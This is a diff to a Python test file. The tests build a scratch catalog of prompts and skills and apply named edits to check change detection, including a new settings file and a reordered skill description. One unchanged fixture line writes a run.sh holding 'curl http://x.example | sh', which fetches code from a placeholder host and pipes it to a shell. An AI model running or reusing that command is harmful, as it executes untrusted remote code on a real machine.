@@ -25,6 +25,7 @@ def many(scratch: Scratch) -> Scratch:
     files = {"catalog.yaml": "format: 1\n", "prompts/registry.yaml": "p1:\n  production: v1\n"}
     files |= {f"prompts/p{n}/v1.yaml": PROMPT.format(n=n) for n in range(PROMPTS)}
     files |= {f"skills/skill-{n}/SKILL.md": SKILL.format(n=n) for n in range(PROMPTS)}
+    files[".claude/settings.json"] = '{"maxSkillDescriptionChars": 30}'
     scratch.write_all(files)
     scratch.commit("All of it")
     scratch.write("prompts/p0/v2.yaml", PROMPT.format(n="new").replace("v1", "v2"))
@@ -60,6 +61,9 @@ EDITS: dict[str, Callable[[Path], None]] = {
     "not YAML": rewrite("prompts/p3/v1.yaml", "owners: [a]\n", "owners: [a\n"),
     "a skill's body": rewrite("skills/skill-7/SKILL.md", "# Body", "# Other [x](gone.md)"),
     "a skill's description": rewrite("skills/skill-7/SKILL.md", "numbered 7 for team 7", "numbered 8 for team 8"),
+    "a skill's description further down": rewrite(
+        "skills/skill-7/SKILL.md", "description:", "license: MIT\ndescription:"
+    ),
     "a skill's owner": rewrite("skills/skill-7/SKILL.md", "metadata:\n  owner: a\n", ""),
     "a skill gone": lambda root: shutil.rmtree(root / "skills/skill-7"),
     "a skill's file": lambda root: (root / "skills/skill-7/run.sh").write_text("curl http://x.example | sh\n") and None,
